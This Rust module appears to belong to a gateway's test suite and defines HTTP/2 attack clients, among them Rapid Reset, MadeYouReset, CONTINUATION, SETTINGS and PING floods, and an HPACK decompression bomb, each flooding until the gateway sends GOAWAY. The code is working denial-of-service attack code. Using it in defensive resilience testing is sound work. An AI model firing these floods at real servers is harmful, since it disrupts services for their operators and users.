//! HTTP/2 clients that attack: each asks much of a server and gets nothing done.

use std::time::Instant;

use crate::http2::{END_HEADERS, END_STREAM, Goaway, Http2Client, block, code, frame, kind};
use crate::{PATIENCE, Target};

const GET: &[(&str, &str)] = &[
    (":method", "GET"),
    (":scheme", "http"),
    (":authority", "a"),
    (":path", "/"),
];

/// Frames that are sent between two looks at what came back.
const BATCH: usize = 32;

/// Sends what `batch` makes, again and again, until the gateway has had enough.
fn flood(mut client: Http2Client, mut batch: impl FnMut(&mut Http2Client) -> Vec<u8>) -> Goaway {
    let deadline = Instant::now() + PATIENCE;
    loop {
        assert!(Instant::now() < deadline, "the gateway bears it");
        let bytes: Vec<u8> = (0..BATCH).flat_map(|_| batch(&mut client)).collect();
        if client.connection().send(bytes).is_err() || !client.is_quiet() {
            break;
        }
    }
    client.goaway()
}

/// Opens streams and cancels each at once (CVE-2023-44487).
#[derive(Clone, Copy, Debug)]
pub struct RapidReset;

impl RapidReset {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        flood(Http2Client::connect(target), |client| {
            let stream = client.take_stream();
            let mut bytes = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(GET));
            bytes.extend(frame(
                kind::RST_STREAM,
                0,
                stream,
                &code::CANCEL.to_be_bytes(),
            ));
            bytes
        })
    }
}

/// Opens streams and has the gateway cancel them, by breaking a rule on each (CVE-2025-8671).
#[derive(Clone, Copy, Debug)]
pub struct MadeYouReset;

impl MadeYouReset {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        flood(Http2Client::connect(target), |client| {
            let stream = client.take_stream();
            let mut bytes = frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(GET));
            // An increment of nothing is an error of the stream.
            bytes.extend(frame(kind::WINDOW_UPDATE, 0, stream, &[0; 4]));
            bytes
        })
    }
}

/// Begins a head and never ends it.
#[derive(Clone, Copy, Debug)]
pub struct ContinuationFlood;

impl ContinuationFlood {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        let mut client = Http2Client::connect(target);
        let stream = client.take_stream();
        client.send_frame(kind::HEADERS, END_STREAM, stream, &block(GET));
        flood(client, move |_| frame(kind::CONTINUATION, 0, stream, b""))
    }
}

/// Sends SETTINGS, each of which must be acknowledged.
#[derive(Clone, Copy, Debug)]
pub struct SettingsFlood;

impl SettingsFlood {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        flood(Http2Client::connect(target), |_| {
            frame(kind::SETTINGS, 0, 0, b"")
        })
    }
}

/// Sends PINGs, each of which must be answered.
#[derive(Clone, Copy, Debug)]
pub struct PingFlood;

impl PingFlood {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        flood(Http2Client::connect(target), |_| {
            frame(kind::PING, 0, 0, &[7; 8])
        })
    }
}

/// Sends a body of nothing, in as many frames as it likes.
#[derive(Clone, Copy, Debug)]
pub struct EmptyData;

impl EmptyData {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        let mut client = Http2Client::connect(target);
        let stream = client.request("POST", "/", &[], false);
        flood(client, move |_| frame(kind::DATA, 0, stream, b""))
    }
}

/// Sends a body a byte at a time, far ahead of anybody who takes it.
#[derive(Clone, Copy, Debug)]
pub struct TinyData;

impl TinyData {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        let mut client = Http2Client::connect(target);
        let stream = client.request("POST", "/", &[], false);
        flood(client, move |_| {
            frame(kind::DATA, 0, stream, b"x").repeat(60)
        })
    }
}

/// Says again and again how urgent something is, by PRIORITY or by PRIORITY_UPDATE.
#[derive(Clone, Copy, Debug)]
pub struct Priorities {
    /// Whether it is PRIORITY_UPDATE.
    pub update: bool,
}

impl Priorities {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        let mut client = Http2Client::connect(target);
        let stream = client.request("GET", "/", &[], true);
        let named = stream.to_be_bytes();
        flood(client, move |_| match self.update {
            true => frame(kind::PRIORITY_UPDATE, 0, 0, &[&named[..], b"u=1"].concat()),
            false => frame(kind::PRIORITY, 0, stream, &[0, 0, 0, 0, 16]),
        })
    }
}

/// Opens windows by a byte, of the connection or of a stream.
#[derive(Clone, Copy, Debug)]
pub struct WindowUpdates {
    /// Whether it is the connection's.
    pub connection: bool,
}

impl WindowUpdates {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        let mut client = Http2Client::connect(target);
        let stream = client.request("GET", "/", &[], true);
        let opened = if self.connection { 0 } else { stream };
        flood(client, move |_| {
            frame(kind::WINDOW_UPDATE, 0, opened, &1u32.to_be_bytes())
        })
    }
}

/// Sends frames of a type that nobody knows.
#[derive(Clone, Copy, Debug)]
pub struct UnknownFrames;

impl UnknownFrames {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        flood(Http2Client::connect(target), |_| frame(0xbe, 0, 0, b"?"))
    }
}

/// Opens streams, however many have been refused.
#[derive(Clone, Copy, Debug)]
pub struct StreamsOverLimit;

impl StreamsOverLimit {
    /// Goes on until the gateway ends the connection; how it did.
    pub fn attack(self, target: impl Into<Target>) -> Goaway {
        flood(Http2Client::connect(target), |client| {
            let stream = client.take_stream();
            frame(kind::HEADERS, END_HEADERS | END_STREAM, stream, &block(GET))
        })
    }
}

/// Sends a small block that would become a large head.
#[derive(Clone, Copy, Debug)]
pub struct HpackBomb;

impl HpackBomb {
    /// Sends it on a new stream, which is returned.
    pub fn send(self, client: &mut Http2Client) -> u32 {
        let mut bomb = block(GET);
        // One line of 4,000 bytes goes into the table, and is then named again and again: 48 MB.
        bomb.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
        bomb.extend([b'y'; 4000]);
        bomb.extend([0xbe; 12_000]);
        let stream = client.take_stream();
        client.send_frame(kind::HEADERS, END_STREAM, stream, &bomb[..16_000]);
        client.send_frame(kind::CONTINUATION, END_HEADERS, stream, &bomb[16_000..]);
        stream
    }
}

/// Asks for something long and never opens its windows.
#[derive(Debug)]
pub struct WindowStall {
    client: Http2Client,
    stream: u32,
}

impl WindowStall {
    /// Sends the request; the window it leaves is of `bytes`.
    pub fn start(target: impl Into<Target>, path: &str, bytes: u32) -> Self {
        // SETTINGS_INITIAL_WINDOW_SIZE
        let mut client = Http2Client::connect_with(target, &[(4, bytes)]);
        client.gives_windows = false;
        let stream = client.request("GET", path, &[], true);
        Self { client, stream }
    }

    /// Waits until the gateway gives up; the code that it resets the stream with.
    pub fn wait_reset(&mut self) -> Option<u32> {
        self.client.answer(self.stream).reset
    }

    /// The client, for what it does next.
    pub fn client(&mut self) -> &mut Http2Client {
        &mut self.client
    }
}
